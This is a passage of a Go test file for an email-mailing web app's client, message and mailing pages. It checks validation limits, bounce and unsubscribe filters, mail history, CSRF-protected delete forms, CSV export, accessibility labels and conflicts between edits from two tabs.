		t.Errorf("an import marking a listed client unsubscribed reports: %q", got)
	}
}

// The part of an address before the @ has at most 64 characters (RFC
// 5321): mail servers refuse a longer one, so such a client could never be
// mailed. The form says so beside the field, keeping what was typed, and an
// import rejects the row.
func TestClientsEmailLocalPartLimit(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	long := strings.Repeat("l", 65) + "@example.com"
	resp, body := c.post(t, "/clients", url.Values{"email": {long}, "full_name": {"Long"}})
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if msg := fieldError(t, body, "email"); !strings.Contains(msg, "64") {
		t.Errorf("error beside email %q, want it to name the 64-character limit", msg)
	}
	if inputValue(t, body, "email") != long || inputValue(t, body, "full_name") != "Long" {
		t.Error("typed values lost")
	}
	resp, body = c.post(t, "/clients", url.Values{"email": {strings.Repeat("l", 64) + "@example.com"}})
	wantStatus(t, resp, body, http.StatusSeeOther)
	if created, _, rejected, body := importReport(t, c, "email\n"+long+"\n"); created != "0" || rejected != "1" {
		t.Errorf("import of a 65-character local part: created %s, rejected %s\n%.600s", created, rejected, body)
	}
}

// A list of one says "1 client", not "1 clients".
func TestPagerCountOfOne(t *testing.T) {
	_, c, _, _ := signedInWithObjects(t)
	for path, want := range map[string]string{"/clients": "1 client", "/messages": "1 message", "/mailings": "1 mailing"} {
		_, body := c.get(t, path)
		got := strings.Join(strings.Fields(parseHTML(t, body).Find("[data-testid=pager] span").First().Text()), " ")
		if got != want {
			t.Errorf("%s: pager says %q, want %q", path, got, want)
		}
	}
}

// The clients list narrows to those who unsubscribed or bounced, and the
// bounced may all be mailed again at once (after a mail server refused
// good addresses by mistake, one POST per client was the only way).
func TestClientsByStateAndClearingBounces(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	bob := newUser(t, e, "bob@example.com", model.RoleUser)
	add := func(owner int64, email string) *model.Client {
		t.Helper()
		cl := &model.Client{OwnerID: owner, Email: email}
		if err := e.store.CreateClient(ctx, cl); err != nil {
			t.Fatal(err)
		}
		return cl
	}
	add(ann.ID, "plain@example.com")
	gone := add(ann.ID, "gone@example.com")
	b1, b2 := add(ann.ID, "b1@example.com"), add(ann.ID, "b2@example.com")
	bobs := add(bob.ID, "bobs@example.com")
	if err := e.store.Unsubscribe(ctx, ann.ID, gone.Email); err != nil {
		t.Fatal(err)
	}
	if err := e.store.MarkBounced(ctx, []int64{b1.ID, b2.ID, bobs.ID}); err != nil {
		t.Fatal(err)
	}
	list := func(c *client, path string, htmx bool) *goquery.Document {
		t.Helper()
		resp, body := c.request(t, "GET", path, nil, htmx)
		wantStatus(t, resp, body, http.StatusOK)
		return parseHTML(t, body)
	}
	emails := func(doc *goquery.Document) string {
		var out []string
		doc.Find("[data-testid=client-row] td.address a").Each(func(_ int, s *goquery.Selection) { out = append(out, s.Text()) })
		return strings.Join(out, ",")
	}

	doc := list(c, "/clients?state=bounced", false)
	if got := emails(doc); got != "b2@example.com,b1@example.com" {
		t.Errorf("bounced clients listed: %s", got)
	}
	if got := doc.Find("nav[aria-label='Filter by state'] [aria-current]").Text(); got != "Bounced" {
		t.Errorf("the filter marked is %q", got)
	}
	if q, _ := doc.Find("form:has([data-testid=clear-bounces])").Attr("data-confirm"); !strings.HasPrefix(q, "Mail all 2 bounced clients again?") {
		t.Errorf("Mail them all again asks %q", q)
	}
	if doc.Find("form:has([data-testid=clear-bounces]) input[name=_csrf]").Length() != 1 {
		t.Errorf("the clear form carries no CSRF token")
	}
	doc = list(c, "/clients?state=unsubscribed", true)
	if got := emails(doc); got != "gone@example.com" || doc.Find("[data-testid=clear-bounces]").Length() != 0 {
		t.Errorf("unsubscribed clients listed (htmx): %s", got)
	}
	if got := emails(list(c, "/clients?state=nonsense", false)); got != "b2@example.com,b1@example.com,gone@example.com,plain@example.com" {
		t.Errorf("an unknown state lists %s, want everyone", got)
	}
	if got := emails(list(c, "/clients?state=bounced&q=b2", false)); got != "b2@example.com" {
		t.Errorf("bounced clients searched: %s", got)
	}
	if got := strings.TrimSpace(list(c, "/clients?state=bounced&q=plain", false).Find("[data-testid=empty]").Text()); got != "No bounced clients match “plain”." {
		t.Errorf("a search with nothing under the filter says %q", got)
	}
	if href, _ := list(c, "/clients?q=b&page=1", false).Find("a[data-filter=bounced]").Attr("href"); href != "/clients?q=b&state=bounced" {
		t.Errorf("the bounced filter links to %q, want the search kept and page 1", href)
	}
	// A search keeps the filter: the filter's choice is a field of the
	// search form (outside it, swapped with the list).
	doc = list(c, "/clients?state=bounced", false)
	formID, _ := doc.Find("form[role=search]").Attr("id")
	if got := doc.Find(`input[name=state][form="`+formID+`"]`).AttrOr("value", ""); formID == "" || got != "bounced" {
		t.Errorf("the search form (id %q) sends the state %q, want bounced", formID, got)
	}
	if list(c, "/clients", false).Find(`input[name=state]`).Length() != 0 {
		t.Errorf("with no state chosen the search sends one")
	}

	resp, body := c.post(t, "/clients/bounces/clear", nil)
	wantRedirect(t, resp, body, "/clients?state=bounced")
	if flash := flashAfter(t, c, resp); flash != "The bounces of 2 clients are cleared; they get mailings again." {
		t.Errorf("clearing says %q", flash)
	}
	for _, cl := range []*model.Client{b1, b2, bobs} {
		got, err := e.store.ClientByID(ctx, store.Everyone(0), cl.ID)
		if err != nil {
			t.Fatal(err)
		}
		if (got.BouncedAt == nil) != (cl.OwnerID == ann.ID) {
			t.Errorf("%s bounced at %v after ann cleared her bounces", cl.Email, got.BouncedAt)
		}
	}
	resp, _ = c.post(t, "/clients/bounces/clear", nil)
	if flash := flashAfter(t, c, resp); flash != "No client has a bounce to clear." {
		t.Errorf("clearing with none says %q", flash)
	}
	if doc := list(c, "/clients?state=bounced", false); doc.Find("[data-testid=empty]").Text() != "No client's address has bounced." {
		t.Errorf("no bounced client: %q", doc.Find("[data-testid=empty]").Text())
	}

	// A manager sees everyone's bounced clients, read-only.
	boss := signedIn(t, e, "boss@example.com", model.RoleManager)
	doc = list(boss, "/clients?scope=all&state=bounced", false)
	if got := emails(doc); got != "bobs@example.com" || doc.Find("[data-testid=clear-bounces]").Length() != 0 {
		t.Errorf("the manager's bounced clients: %s, clear offered %d", got, doc.Find("[data-testid=clear-bounces]").Length())
	}
}

// A client's mail history says the subject each run sent, not the one its
// message has since an edit for the mailing's next sends (the history was
// rewritten with it).
func TestClientMailsKeepTheSubjectSent(t *testing.T) {
	w := newMailingWorld(t)
	ctx := context.Background()
	o := makeObjects(t, w.e, w.ann)
	subjects := []string{"November news for {{name}}", "December news for {{name}}"}
	for _, subject := range subjects {
		if _, err := w.e.db.ExecContext(ctx, "UPDATE messages SET subject = ? WHERE id = ?", subject, o.message.ID); err != nil {
			t.Fatal(err)
		}
		run := &model.Run{MailingID: o.mailing.ID, Trigger: model.TriggerManual, StartedAt: time.Now()}
		if _, err := w.e.store.CreateRun(ctx, run); err != nil {
			t.Fatal(err)
		}
		if run.Subject != subject {
			t.Fatalf("run keeps %q, want %q", run.Subject, subject)
		}
		a := &model.Attempt{RunID: run.ID, MailingID: o.mailing.ID, ClientID: &o.client.ID, Email: o.client.Email,
			Status: model.AttemptSuccess, Response: "250 ok", Tries: 1}
		if _, err := w.e.db.NewInsert().Model(a).Exec(ctx); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.e.db.ExecContext(ctx, "UPDATE messages SET subject = 'January news' WHERE id = ?", o.message.ID); err != nil {
		t.Fatal(err)
	}
	var got []string
	w.c.page(t, "/clients/"+id(o.client.ID)).Find("[data-testid=client-mail] a").Each(func(_ int, s *goquery.Selection) { got = append(got, s.Text()) })
	want := []string{"December news for " + o.client.FullName, "November news for " + o.client.FullName}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("the client's mails are named %q, want %q", got, want)
	}
	// The edit form of a message in use says where a change goes.
	note := w.c.page(t, "/messages/"+id(o.message.ID)+"/edit").Find("[data-testid=message-in-use]").Text()
	if !strings.HasPrefix(note, "Used by 1 mailing: a change goes out with its next sends.") {
		t.Errorf("the edit form of a message in use says %q", note)
	}
	unused := &model.Message{OwnerID: w.ann.ID, Subject: "Draft", Body: "Hello"}
	if err := w.e.store.CreateMessage(ctx, unused); err != nil {
		t.Fatal(err)
	}
	if w.c.page(t, "/messages/"+id(unused.ID)+"/edit").Find("[data-testid=message-in-use]").Length() != 0 {
		t.Error("the edit form of a message no mailing uses says it is in use")
	}
}

// A client's page lists what was sent to them, newest first, with each
// server's reply, paged (with htmx, the section alone).
func TestClientMails(t *testing.T) {
	w := newMailingWorld(t)
	ctx := context.Background()
	o := makeObjects(t, w.e, w.ann)
	code := 550
	for i := 1; i <= 51; i++ {
		run := w.e.insertRun(t, &model.Run{MailingID: o.mailing.ID, Trigger: model.TriggerManual, StartedAt: time.Now()})
		a := &model.Attempt{RunID: run.ID, MailingID: o.mailing.ID, ClientID: &o.client.ID, Email: o.client.Email,
			Status: model.AttemptSuccess, Response: fmt.Sprintf("250 2.0.0 queued as Q%d", i), Tries: 1}
		if i == 51 {
			a.Email, a.Status, a.Code, a.Response, a.Tries = "old@example.com", model.AttemptFailure, &code, "550 5.1.1 no such user", 3
		}
		if _, err := w.e.db.NewInsert().Model(a).Exec(ctx); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.e.db.ExecContext(ctx, "UPDATE messages SET subject = 'News for {{name}}' WHERE id = ?", o.message.ID); err != nil {
		t.Fatal(err)
	}
	page := "/clients/" + id(o.client.ID)
	doc := w.c.page(t, page)
	rows := doc.Find("[data-testid=client-mail]")
	if got, want := rows.First().Find("a").Text(), "News for "+o.client.FullName; got != want {
		t.Errorf("the mailing is named %q, want the subject as the client got it, %q", got, want)
	}
	if rows.Length() != 50 {
		t.Fatalf("%d mails on the first page, want 50", rows.Length())
	}
	first := rows.First()
	for _, want := range []string{"550 5.1.1 no such user", "3 tries", "to old@example.com", "failure"} {
		if !strings.Contains(first.Text(), want) {
			t.Errorf("the newest mail lacks %q: %s", want, first.Text())
		}
	}
	if href, _ := first.Find("a").Attr("href"); href != "/mailings/"+id(o.mailing.ID) {
		t.Errorf("the mail links to %q, want its mailing", href)
	}
	if strings.Contains(rows.Eq(1).Text(), "to "+o.client.Email) || !strings.Contains(rows.Eq(1).Text(), "queued as Q50") {
		t.Errorf("the second mail: %s", rows.Eq(1).Text())
	}
	next, _ := doc.Find("#client-mails [data-testid=next-page]").Attr("href")
	if next != page+"?page=2" {
		t.Fatalf("the mails' next page links to %q", next)
	}
	req, _ := http.NewRequest("GET", next, nil)
	req.Header.Set("HX-Request", "true")
	req.Header.Set("HX-Target", "client-mails")
	resp, body := w.c.send(t, req)
	wantStatus(t, resp, body, http.StatusOK)
	if d := parseHTML(t, body); d.Find("#client-mails [data-testid=client-mail]").Length() != 1 || !strings.Contains(body, "queued as Q1<") || d.Find("[data-testid=client-show]").Length() != 0 {
		t.Errorf("htmx page 2 of the mails:\n%.2000s", body)
	}
	// The row fragment in-place editing asks for is still the row.
	resp, body = w.c.request(t, "GET", page, nil, true)
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.HasPrefix(strings.TrimSpace(body), "<tr ") || !strings.Contains(body, `data-testid="client-row"`) || strings.Contains(body, "client-mails") {
		t.Errorf("htmx row of the client:\n%.2000s", body)
	}
	// A manager reads them; a client never mailed says so.
	boss := signedIn(t, w.e, "boss@example.com", model.RoleManager)
	if n := boss.page(t, page).Find("[data-testid=client-mail]").Length(); n != 50 {
		t.Errorf("the manager sees %d mails", n)
	}
	if got := strings.TrimSpace(w.c.page(t, "/clients/"+id(w.clientA.ID)).Find("#client-mails [data-testid=empty]").Text()); got != "No mail has been sent to this client yet." {
		t.Errorf("a client never mailed: %q", got)
	}
}

// Without JavaScript, a list's Edit is a link and its Delete a form that
// posts (htmx makes them swaps in place): both worked only with htmx.
func TestListActionsWithoutJavaScript(t *testing.T) {
	e, c, _, o := signedInWithObjects(t)
	ctx := context.Background()
	cl := "/clients/" + id(o.client.ID)
	doc := c.page(t, "/clients")
	if href, _ := doc.Find("[data-testid=edit-client]").Attr("href"); href != cl+"/edit" {
		t.Errorf("the row's Edit leads to %q", href)
	}
	for list, action := range map[string]string{"/clients": cl + "/delete", "/mailings": "/mailings/" + id(o.mailing.ID) + "/delete"} {
		f := c.page(t, list).Find(`form[method=post][action="` + action + `"]`)
		token, _ := f.Find("input[name=_csrf]").Attr("value")
		if f.Find("button[type=submit]").Length() != 1 || token != c.csrf(t) {
			t.Errorf("%s: no Delete form posting to %s with the token", list, action)
		}
	}
	// A message a mailing uses offers no Delete, which would be refused
	// only after its question, and says why.
	msg := "/messages/" + id(o.message.ID)
	if c.page(t, "/messages").Find(`form[action="`+msg+`/delete"]`).Length() != 0 {
		t.Error("the list offers to delete a message a mailing uses")
	}
	if d := c.page(t, msg); d.Find(`form[action="`+msg+`/delete"]`).Length() != 0 ||
		!strings.Contains(d.Find("[data-testid=delete-in-use]").Text(), "delete the mailing, or give it another message if it has not started sending") {
		t.Error("the message's page offers to delete it while a mailing uses it, or does not say why not")
	}
	if _, err := e.store.DeleteMailing(ctx, o.mailing.OwnerID, o.mailing.ID); err != nil {
		t.Fatal(err)
	}
	if c.page(t, "/messages").Find(`form[method=post][action="`+msg+`/delete"] button[type=submit]`).Length() != 1 {
		t.Error("no Delete form for a message no mailing uses")
	}
	// Posted as a browser without JavaScript would: the row's own form.
	resp, body := c.postRaw(t, cl+"/delete", url.Values{"_csrf": {c.csrf(t)}})
	wantRedirect(t, resp, body, "/clients")
	if _, err := e.store.ClientByID(ctx, store.Everyone(0), o.client.ID); err == nil {
		t.Error("the client is still there")
	}
}

// A search or a filter of the clients offers to export what it shows; the
// export took everyone whatever the list showed.
func TestClientsExportFollowsTheList(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	for _, m := range []string{"gone@example.com", "bee@example.com", "sea@example.com"} {
		if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: m}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.db.ExecContext(ctx, "UPDATE clients SET unsubscribed_at = now() WHERE email = 'gone@example.com'"); err != nil {
		t.Fatal(err)
	}
	exported := func(list string) []string {
		t.Helper()
		href, ok := c.page(t, list).Find("[data-testid=export-these]").Attr("href")
		if list == "/clients" {
			if ok {
				t.Errorf("the whole list offers a second export: %q", href)
			}
			href = "/clients/export.csv"
		}
		resp, body := c.get(t, href)
		wantStatus(t, resp, body, http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var emails []string
		for _, r := range rows[1:] {
			emails = append(emails, r[0])
		}
		slices.Sort(emails)
		return emails
	}
	for list, want := range map[string][]string{
		"/clients":                    {"bee@example.com", "gone@example.com", "sea@example.com"},
		"/clients?state=unsubscribed": {"gone@example.com"},
		"/clients?q=bee":              {"bee@example.com"},
		"/clients?q=example&page=1":   {"bee@example.com", "gone@example.com", "sea@example.com"},
	} {
		if got := exported(list); !slices.Equal(got, want) {
			t.Errorf("%s exports %v, want %v", list, got, want)
		}
	}
}

// A client's row edited in place and refused says why to a screen reader
// too: each field in error is described by its message (it said "Email,
// invalid entry" alone).
func TestClientEditRowErrorsDescribeTheirFields(t *testing.T) {
	_, c, _, o := signedInWithObjects(t)
	resp, body := c.request(t, "POST", "/clients/"+id(o.client.ID), url.Values{"email": {"not an address"}, "full_name": {strings.Repeat("n", 300)}}, true)
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	doc := parseHTML(t, body)
	for _, field := range []string{"email", "full_name"} {
		in := doc.Find(`[name="` + field + `"]`)
		described, _ := in.Attr("aria-describedby")
		if invalid, _ := in.Attr("aria-invalid"); invalid != "true" || described == "" {
			t.Errorf("%s: aria-invalid %q, aria-describedby %q", field, invalid, described)
			continue
		}
		if msg := doc.Find("#" + described); msg.Length() != 1 || msg.AttrOr("data-field-error", "") != field {
			t.Errorf("%s is described by #%s, which is no error of it:\n%s", field, described, body)
		}
	}
}

// A list's Edit and Delete say, to a screen reader, which row they act on:
// fifty rows of "Edit" and "Delete" are told apart.
func TestRowButtonsNameTheirRow(t *testing.T) {
	_, c, _, o := signedInWithObjects(t)
	for path, want := range map[string]string{
		"/clients":  o.client.Email,
		"/messages": "“" + o.message.Subject + "”",
		"/mailings": "mailing #" + id(o.mailing.ID) + ", “" + o.message.Subject + "”",
	} {
		doc := c.page(t, path)
		sels := []string{"a[role=button][href$='/edit']", "button.danger"}
		if path == "/messages" {
			sels = sels[:1] // a message in use offers no Delete
		}
		for _, sel := range sels {
			if got := strings.Join(strings.Fields(doc.Find(sel).First().Text()), " "); !strings.HasSuffix(got, " "+want) {
				t.Errorf("%s: %s reads %q, want it to end %q", path, sel, got, want)
			}
		}
	}
}

// A client's, a message's and a mailing's pages are titled with what they
// are: a message and its mailing were both titled by the subject alone.
func TestShowPagesTitledByKind(t *testing.T) {
	_, c, _, o := signedInWithObjects(t)
	for path, want := range map[string]string{
		"/clients/" + id(o.client.ID):   "Client " + o.client.Email + " · Rassylka",
		"/messages/" + id(o.message.ID): "Message: " + o.message.Subject + " · Rassylka",
		"/mailings/" + id(o.mailing.ID): "Mailing #" + id(o.mailing.ID) + ": " + o.message.Subject + " · Rassylka",
	} {
		if got := c.page(t, path).Find("title").Text(); got != want {
			t.Errorf("%s is titled %q, want %q", path, got, want)
		}
	}
}

// formVersion is the version the edit form at path was opened on.
func formVersion(t *testing.T, c *client, path string) string {
	t.Helper()
	return formValue(t, c, path, "version")
}

// formValue is the value of the form's field name on the page at path,
// which must have one (a form's version, a form's key).
func formValue(t *testing.T, c *client, path, name string) string {
	t.Helper()
	v, ok := c.page(t, path).Find("input[name=" + name + "]").First().Attr("value")
	if !ok || v == "" {
		t.Fatalf("%s has no %s", path, name)
	}
	return v
}

// pageForm is what the form sel on the page at path sends as it is: its
// fields' values, its ticked boxes, its chosen options.
func pageForm(t *testing.T, c *client, path, sel string) url.Values {
	t.Helper()
	f := c.page(t, path).Find(sel)
	if f.Length() != 1 {
		t.Fatalf("%s has no form %s", path, sel)
	}
	v := url.Values{}
	f.Find("input[name], textarea[name], select[name]").Each(func(_ int, el *goquerySelection) {
		name := el.AttrOr("name", "")
		switch {
		case el.Is("textarea"):
			v.Add(name, strings.TrimPrefix(el.Text(), "\n"))
		case el.Is("select"):
			v.Add(name, el.Find("option[selected]").AttrOr("value", el.Find("option").First().AttrOr("value", "")))
		case el.Is("[type=checkbox], [type=radio]"):
			if _, on := el.Attr("checked"); on {
				v.Add(name, el.AttrOr("value", "on"))
			}
		case el.Is("[type=submit], [type=button], [type=file]"):
		default:
			v.Add(name, el.AttrOr("value", ""))
		}
	})
	return v
}

// Two tabs editing the same client or message: the second save, made on
// the form as it was opened, no longer silently undoes the first. It is
// refused with what was typed kept, saying so, and saving again (now on
// the object's new version) replaces the first change on purpose. A form
// without the version (the contract's fields alone) saves as before.
func TestEditsFromTwoTabs(t *testing.T) {
	e, c, ann, o := signedInWithObjects(t)
	ctx := context.Background()
	version := func(path string) string { return formVersion(t, c, path) }

	msgPath := "/messages/" + id(o.message.ID)
	first, second := version(msgPath+"/edit"), version(msgPath+"/edit")
	resp, body := c.post(t, msgPath, url.Values{"subject": {"From tab one"}, "body": {"One"}, "version": {first}})
	wantRedirect(t, resp, body, msgPath)
	// The same form sent twice (a double click without JavaScript) is
	// the same save: no change elsewhere to speak of.
	resp, body = c.post(t, msgPath, url.Values{"subject": {"From tab one"}, "body": {"One"}, "version": {first}})
	wantRedirect(t, resp, body, msgPath)
	resp, body = c.post(t, msgPath, url.Values{"subject": {"From tab two"}, "body": {"Two"}, "version": {second}})
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	doc := parseHTML(t, body)
	if !strings.Contains(doc.Find("[data-testid=form-error]").Text(), "changed elsewhere") || doc.Find("input[name=subject]").AttrOr("value", "") != "From tab two" {
		t.Fatalf("the second tab's save:\n%s", body)
	}
	if m, _ := e.store.MessageByID(ctx, store.Own(ann.ID), o.message.ID); m.Subject != "From tab one" {
		t.Fatalf("the refused save changed the message to %q", m.Subject)
	}
	again := doc.Find("input[name=version]").AttrOr("value", "")
	resp, body = c.post(t, msgPath, url.Values{"subject": {"From tab two"}, "body": {"Two"}, "version": {again}})
	wantRedirect(t, resp, body, msgPath)
	resp, body = c.post(t, msgPath, url.Values{"subject": {"No version"}, "body": {"Three"}})
	wantRedirect(t, resp, body, msgPath)

	clPath := "/clients/" + id(o.client.ID)
	first, second = version(clPath+"/edit"), version(clPath+"/edit")
	resp, body = c.post(t, clPath, url.Values{"email": {o.client.Email}, "full_name": {"Renamed"}, "version": {first}})
	wantRedirect(t, resp, body, clPath)
	resp, body = c.post(t, clPath, url.Values{"email": {o.client.Email}, "full_name": {"Renamed"}, "version": {first}})
	wantRedirect(t, resp, body, clPath)
	resp, body = c.post(t, clPath, url.Values{"email": {o.client.Email}, "comment": {"VIP"}, "version": {second}})
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if doc := parseHTML(t, body); !strings.Contains(doc.Find("[data-testid=form-error]").Text(), "changed elsewhere") {
		t.Fatalf("the second tab's save of the client:\n%s", body)
	}
	// In place, the row says so too.
	resp, body = c.request(t, "POST", clPath, url.Values{"email": {o.client.Email}, "comment": {"VIP"}, "version": {second}}, true)
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	row := parseHTML(t, "<table>"+body+"</table>")
	if v := row.Find("input[name=version]").AttrOr("value", ""); v == "" || v == second {
		t.Errorf("the row refused carries version %q, want the client's new one", v)
	}
	if !strings.Contains(row.Find("[data-testid=client-edit-row] [data-testid=form-error]").Text(), "changed elsewhere") || strings.TrimSpace(row.Find("textarea[name=comment]").Text()) != "VIP" {
		t.Fatalf("the row edited in place after a change elsewhere:\n%s", body)
	}
	if cl, _ := e.store.ClientByID(ctx, store.Own(ann.ID), o.client.ID); cl.FullName != "Renamed" || cl.Comment != "" {
		t.Fatalf("the refused saves changed the client: %q %q", cl.FullName, cl.Comment)
	}
}
